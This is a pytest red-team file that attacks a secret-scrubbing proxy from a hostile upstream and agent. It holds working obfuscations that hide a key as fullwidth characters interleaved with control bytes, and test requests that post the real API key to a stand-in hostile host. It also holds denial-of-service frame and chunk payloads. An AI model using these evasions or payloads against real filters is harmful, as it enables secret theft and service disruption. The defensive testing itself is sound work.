"""Red team 24: attacks on a real ``sandgate proxy`` from outside (world: tests/proxy/test_redteam.py).

Each test asserts an invariant; a failing test names a break. What broke, fixed since: fullwidth
letters with a control between each (the cleaning client's view kept the controls, and every
skeleton reading dropped the letters), also JSON-escaped and toward unbound hosts; a binary
WebSocket message of blank fragments held with work in their square; a read of many small chunks,
or many costly frames, holding the loop for seconds (the data path now scrubs a few milliseconds
at a time; the CPU a costly chunk takes, ~0.5 ms, is a stated cost). Left as stated: C1 controls
in a declared single-byte charset (strict xfails).
Clients: red team 23's (VT500 terminal, strip-ansi, printable cleaner, strip-ansi+cleaner), each
composed with NFKC normalisation (a "fourth reading": NFKC is a client of its own in the brief;
a text sanitiser does NFKC then drops what is not printable, in either order).
"""

from __future__ import annotations

import json
import threading
import time
import unicodedata

import pytest

from tests.conftest import needs_root
from tests.proxy import test_redteam as world
from tests.proxy.core.test_runs import longest_run
from tests.proxy.test_redteam import API, HOST, HOSTILE_NAME, ask, fetch, parse_frames, recv_all, ws_handshake, ws_open
from tests.proxy.test_redteam22 import _loop_latency, cpu_s
from tests.proxy.test_redteam23 import (
    _sse,
    _sse_content,
    _ws_messages,
    body_answer,
    printable,
    strip_ansi,
    vt,
)
from tests.support.hostile import HostileServer, Request, Wire, ws_frame
from tests.support.proxyproc import ProxyProcess

pytestmark = needs_root

hostile_ca, hostile, rt = world.hostile_ca, world.hostile, world.rt

RUN = 16


def nfkc(t: str) -> str:
    return unicodedata.normalize("NFKC", t)


CLIENTS = {
    "raw": lambda t: t,
    "terminal": vt,
    "strip-ansi": strip_ansi,
    "printable": printable,
    "strip-ansi+printable": lambda t: printable(strip_ansi(t)),
    "nfkc": nfkc,
    "nfkc+printable": lambda t: printable(nfkc(t)),
    "printable+nfkc": lambda t: nfkc(printable(t)),
    "terminal+nfkc": lambda t: nfkc(vt(t)),
    "nfkc+terminal": lambda t: vt(nfkc(t)),
    "nfkc+strip-ansi+printable": lambda t: printable(strip_ansi(nfkc(t))),
}


def worst(text: str, value: str = HOST.real) -> dict[str, int]:
    return {name: longest_run(read(text).encode(), value) for name, read in CLIENTS.items()}


def assert_no_leak(text: str, what: str, value: str = HOST.real) -> None:
    runs = worst(text, value)
    print(f"\n[{what}] longest key run per client: {runs} (key {len(value)} chars)")
    bad = {k: v for k, v in runs.items() if v >= RUN}
    assert not bad, f"{what}: a client reads a run of the key: {bad}"


def fw(c: str) -> str:
    """The fullwidth form of an ASCII character (NFKC folds it back)."""
    return chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c


# == (a) a fourth reading: fullwidth characters kept apart by C0 controls ============================

# The skeleton drops every byte above 0x7F (so a fullwidth character is gone from all three
# readings) and the NFKC view (proxy.core.fold) keeps C0 controls: neither reads fullwidth
# characters separated by a control, which NFKC + a printable-only cleaner reads as the key.
SPREADS = {
    "fw-soh-after-each": lambda t: "".join(fw(c) + "\x01" for c in t),
    "fw-bel-before-each": lambda t: "".join("\x07" + fw(c) for c in t),
    "fw-esc-before-each": lambda t: "".join("\x1b" + fw(c) for c in t),
    "fw-del-after-each": lambda t: "".join(fw(c) + "\x7f" for c in t),
    "fw-can-after-each": lambda t: "".join(fw(c) + "\x18" for c in t),
}


@pytest.mark.parametrize("chunked", [False, True], ids=["whole", "chunked5"])
@pytest.mark.parametrize("name", list(SPREADS))
def test_rt24_fullwidth_spread_body(rt: ProxyProcess, hostile: HostileServer, name: str, chunked: bool) -> None:
    path = f"/rt24/fw-{name}-{int(chunked)}"
    body = body_answer(
        hostile,
        rt,
        path,
        "text/plain; charset=utf-8",
        lambda t: ("$ env\nKEY=" + SPREADS[name](t) + "\n").encode(),
        chunked,
    )
    assert_no_leak(body.decode("utf-8", "replace"), f"body {name}")


DELTAS = {
    "fw-soh-each": lambda t: [fw(c) + "\x01" for c in t],
    "fw-soh-6": lambda t: ["".join(fw(c) + "\x01" for c in t[i : i + 6]) for i in range(0, len(t), 6)],
    "fw-esc-each": lambda t: ["\x1b" + fw(c) for c in t],
}


@pytest.mark.parametrize("name", list(DELTAS))
def test_rt24_fullwidth_spread_sse_deltas(rt: ProxyProcess, hostile: HostileServer, name: str) -> None:
    path = f"/rt24/sse-{name}"
    body = body_answer(hostile, rt, path, "text/event-stream", lambda t: _sse(DELTAS[name](t)))
    assert_no_leak(_sse_content(body), f"sse {name}")


@pytest.mark.parametrize("name", ["fw-soh-after-each", "fw-esc-before-each"])
def test_rt24_fullwidth_spread_json_error_body(rt: ProxyProcess, hostile: HostileServer, name: str) -> None:
    path = f"/rt24/json-{name}"
    body = body_answer(
        hostile,
        rt,
        path,
        "application/json",
        lambda t: json.dumps({"error": {"message": SPREADS[name](t)}}).encode(),
    )
    text = json.loads(body)["error"]["message"] if body else ""
    assert_no_leak(text, f"json {name}")


@pytest.mark.parametrize("op", [0x1, 0x2])
@pytest.mark.parametrize("name", ["fw-soh-each", "fw-esc-each"])
def test_rt24_fullwidth_spread_websocket_deltas(rt: ProxyProcess, hostile: HostileServer, name: str, op: int) -> None:
    path = f"/rt24/ws-{name}-{op}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        await w.send(ws_handshake(req))
        for piece in DELTAS[name](req.token):
            doc = json.dumps({"type": "response.output_text.delta", "delta": piece})
            await w.send(ws_frame(op, doc.encode()), pause=0.005)
        await w.send(ws_frame(0x8, b"\x03\xe8"), pause=0.2)
        w.keep = False

    s, buf = ws_open(rt, path)
    head, _, rest = buf.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 101")
    rest += recv_all(s, 5)
    frames, _ = parse_frames(rest)
    msgs = _ws_messages(frames)
    deltas = "".join(str(json.loads(p.decode()).get("delta", "")) for _, p in msgs if p[:1] == b"{")
    print(f"\n[ws {name}] {len(msgs)} messages, closes {[p for _, o, p in frames if o == 8]}")
    assert_no_leak(deltas, f"ws {name}")


@pytest.mark.parametrize("name", ["fw-soh-after-each", "fw-esc-before-each"])
def test_rt24_outbound_fullwidth_spread_to_unbound_host(rt: ProxyProcess, hostile: HostileServer, name: str) -> None:
    """The agent posts rtapi's real value (bound to api.openai.com), fullwidth and spread with
    controls, to the hostile host."""
    body = ("note=" + SPREADS[name](API.real)).encode()
    req = (
        f"POST /rt24/out/{name} HTTP/1.1\r\nHost: {HOSTILE_NAME}\r\nContent-Type: text/plain; charset=utf-8\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    ).encode() + body
    before = len(hostile.requests)
    reply = ask(rt, HOSTILE_NAME, req)
    time.sleep(0.3)
    got_up = [r for r in hostile.requests[before:] if r.path.startswith("/rt24/out/")]
    print(f"\n[out {name}] reply {reply.status} {reply.reason}; upstream got {len(got_up)} requests")
    for r in got_up:
        assert_no_leak(r.body.decode("utf-8", "replace"), f"outbound {name}", API.real)


@pytest.mark.parametrize("name", ["fw-soh-after-each", "fw-esc-before-each"])
def test_rt24_fullwidth_spread_in_response_header(rt: ProxyProcess, hostile: HostileServer, name: str) -> None:
    path = f"/rt24/hdr-{name}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        v = SPREADS[name](req.token).encode()
        await w.send(b"HTTP/1.1 200 OK\r\nX-Debug: " + v + b"\r\nContent-Length: 2\r\n\r\nok")

    raw = fetch(rt, path)
    head = raw.split(b"\r\n\r\n")[0]
    print(f"\n[hdr {name}] first line {raw[:15]!r}")
    assert_no_leak(head.decode("utf-8", "replace"), f"header {name}")


# == DoS: a body of escapes of every kind, sent a TLS record of 16 bytes at a time ====================


# Every decoding applies to the window each read re-views (JSON escape, percent, HTML reference,
# quoted-printable, CSI, C1 CSI, a control, UTF-7, HZ): ~12 ms of views per read in process.
ALL_KINDS = b"\\u0041%41&#65;=41\x1b[1m\xc2\x9b\x01+AEE-~{~}"


@pytest.mark.parametrize("shape", ["fragments"])
def test_rt24_ws_costly_small_frames_do_not_hold_the_loop(rt: ProxyProcess, hostile: HostileServer, shape: str) -> None:
    """The upstream writes, at once, 2,000 text frames of 16 bytes of every kind of escape (each
    whole message, or fragments of one message). The relay's slice is checked every 64 frames, and
    each frame's scrub re-views the ~1.8 KiB window: a slice is 64 x that."""
    path = f"/rt24/ws-costly-{shape}"
    n = 2000
    unit = ALL_KINDS[:16]

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        await w.send(ws_handshake(req))
        if shape == "messages":
            data = ws_frame(0x1, unit) * n
        else:
            data = ws_frame(0x1, unit, fin=False) + ws_frame(0x0, unit, fin=False) * (n - 2) + ws_frame(0x0, unit)
        await w.send(data)
        await w.send(ws_frame(0x8, b"\x03\xe8"), pause=1)
        w.keep = False

    answered: list[tuple[float, float]] = []
    done = threading.Event()

    def others() -> None:
        while not done.is_set():
            answered.append((time.monotonic(), _loop_latency(rt)))

    cpu0 = cpu_s(rt)
    s, _ = ws_open(rt, path)
    start = time.monotonic()
    th = threading.Thread(target=others, daemon=True)
    th.start()
    got = recv_all(s, 300)
    relayed = time.monotonic()
    done.set()
    th.join()
    cpu = cpu_s(rt) - cpu0
    frames, _ = parse_frames(got)
    during = sorted(w for t, w in answered if start < t < relayed)
    print(
        f"\n[ws costly {shape}] {n} frames x {len(unit)} bytes ({n * (len(unit) + 2)} bytes on the wire): "
        f"relayed in {relayed - start:.1f} s, proxy CPU +{cpu:.1f} s; agent got {len(frames)} frames; "
        f"new connections meanwhile waited (sorted) {[round(x, 2) for x in during]}"
    )
    assert cpu < 2.0, f"{n * (len(unit) + 2)} bytes of frames cost {cpu:.1f} s of the proxy's CPU"
    assert during and during[len(during) // 2] < 0.1 and during[-1] < 0.5, f"new connections waited {during}"


@pytest.mark.parametrize("kib", [8])
def test_rt24_one_read_of_small_chunks_does_not_hold_the_loop(
    rt: ProxyProcess, hostile: HostileServer, kib: int
) -> None:
    """The same body as 16-byte chunks written at once (a read holds hundreds of them): the data
    path feeds the scrubber each chunk on its own, in one callback; the loop meanwhile?"""
    total, piece = kib * 1024, 16
    body = (ALL_KINDS * (total // len(ALL_KINDS) + 1))[:total]
    path = f"/rt24/onewrite-{kib}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        framed = b"".join(b"10\r\n" + body[i : i + piece] + b"\r\n" for i in range(0, total, piece))
        await w.send(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n" + framed + b"0\r\n\r\n"
        )

    answered: list[tuple[float, float]] = []
    done = threading.Event()

    def others() -> None:
        time.sleep(0.3)
        while not done.is_set():
            answered.append((time.monotonic(), _loop_latency(rt)))

    th = threading.Thread(target=others, daemon=True)
    cpu0, t0 = cpu_s(rt), time.monotonic()
    th.start()
    raw = fetch(rt, path, timeout=600)
    wall = time.monotonic() - t0
    done.set()
    th.join()
    cpu = cpu_s(rt) - cpu0
    waits = sorted(w for _, w in answered)
    print(
        f"\n[one write {kib} KiB in {total // piece} chunks] agent got {raw[:12]!r} after {wall:.1f} s; proxy CPU +{cpu:.1f} s; "
        f"new connections meanwhile waited (sorted) {[round(x, 2) for x in waits]}"
    )
    # (Its CPU is a stated cost: the loop is what must not be held. Since small reads wait unchecked
    # behind a long hold, 8 KiB is scrubbed before the first connection is tried: then the loop was
    # held no longer than the whole answer took.)
    if not waits:
        assert wall < 1.0, f"no connection answered in the {wall:.1f} s the answer took"
    else:
        assert waits[-1] < 1.0, f"a new connection waited {waits[-1]:.1f} s"


# == (a) another reading: 8-bit C1 controls in a body declared ISO-8859-1 =============================

# The skeleton reads C1 controls only as UTF-8 (U+009B as C2 9B); a lone byte 0x9B is "a character
# not ASCII", dropped, and the final byte after it kept. A client decodes the body as its declared
# charset (requests' r.text, curl | iconv): 0x9B is U+009B, CSI, to a terminal and to strip-ansi.
LATIN1 = {
    "c1-csi-m-after-each": lambda t: b"".join(c.encode() + b"\x9bm" for c in t),
    "c1-csi-params-before-each": lambda t: b"".join(b"\x9b1;2m" + c.encode() for c in t),
    "c1-osc-after-each": lambda t: b"".join(c.encode() + b"\x9dxx\x07" for c in t),
}


_LATIN1_C1 = pytest.mark.xfail(
    strict=True,
    raises=AssertionError,
    reason="C1 controls are read in UTF-8 only, not as a declared single-byte charset's",
)


@_LATIN1_C1
@pytest.mark.parametrize("name", list(LATIN1))
def test_rt24_latin1_c1_spread_body(rt: ProxyProcess, hostile: HostileServer, name: str) -> None:
    path = f"/rt24/latin1-{name}"
    body = body_answer(
        hostile, rt, path, "text/plain; charset=iso-8859-1", lambda t: b"$ env\nKEY=" + LATIN1[name](t) + b"\n"
    )
    assert_no_leak(body.decode("latin-1"), f"latin-1 {name}")


@_LATIN1_C1
def test_rt24_outbound_latin1_c1_spread_to_unbound_host(rt: ProxyProcess, hostile: HostileServer) -> None:
    """rtapi's real value, each character followed by byte 0x9B and ``m``, posted as ISO-8859-1 to
    the hostile host (rtapi is bound to api.openai.com); the receiver decodes and strips ANSI."""
    body = b"note=" + LATIN1["c1-csi-m-after-each"](API.real)
    req = (
        f"POST /rt24/out/latin1 HTTP/1.1\r\nHost: {HOSTILE_NAME}\r\nContent-Type: text/plain; charset=iso-8859-1\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    ).encode() + body
    before = len(hostile.requests)
    reply = ask(rt, HOSTILE_NAME, req)
    time.sleep(0.3)
    got_up = [r for r in hostile.requests[before:] if r.path.startswith("/rt24/out/")]
    print(f"\n[out latin1] reply {reply.status} {reply.reason}; upstream got {len(got_up)} requests")
    for r in got_up:
        assert_no_leak(r.body.decode("latin-1"), "outbound latin-1", API.real)


# == (d) a binary message held while its first bytes are blank: each fragment copies the hold ========


@pytest.mark.parametrize("n", [50_000])
def test_rt24_ws_blank_binary_fragments_cost_linear_cpu(rt: ProxyProcess, hostile: HostileServer, n: int) -> None:
    """A binary message of ``n`` one-byte blank fragments (3 bytes each on the wire), then ``{}``:
    while its head is blank (json_undecided), each fragment makes ``bytes(self._whole) + payload``
    and strips it: work growing with the square of the fragments (the hold's bound is 1 MiB)."""
    path = f"/rt24/ws-blank-{n}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        await w.send(ws_handshake(req))
        await w.send(ws_frame(0x2, b" ", fin=False) + ws_frame(0x0, b" ", fin=False) * (n - 1) + ws_frame(0x0, b"{}"))
        await w.send(ws_frame(0x8, b"\x03\xe8"), pause=1)
        w.keep = False

    answered: list[tuple[float, float]] = []
    done = threading.Event()

    def others() -> None:
        while not done.is_set():
            answered.append((time.monotonic(), _loop_latency(rt)))

    cpu0 = cpu_s(rt)
    s, _ = ws_open(rt, path)
    start = time.monotonic()
    th = threading.Thread(target=others, daemon=True)
    th.start()
    got = recv_all(s, 600)
    relayed = time.monotonic()
    done.set()
    th.join()
    cpu = cpu_s(rt) - cpu0
    frames, _ = parse_frames(got)
    during = sorted(w for t, w in answered if start < t < relayed)
    print(
        f"\n[ws blank x{n}] {3 * n} bytes on the wire: relayed in {relayed - start:.1f} s, proxy CPU +{cpu:.1f} s "
        f"(wsproto's ~9 us a frame: {n * 9e-6:.1f} s); agent got {[(o, len(p)) for _, o, p in frames][:4]}; "
        f"new connections waited max {max(during, default=-1):.2f} s over {len(during)}"
    )
    assert cpu < n * 9e-6 * 2 + 1.0, f"{n} blank fragments cost {cpu:.1f} s of the proxy's CPU"
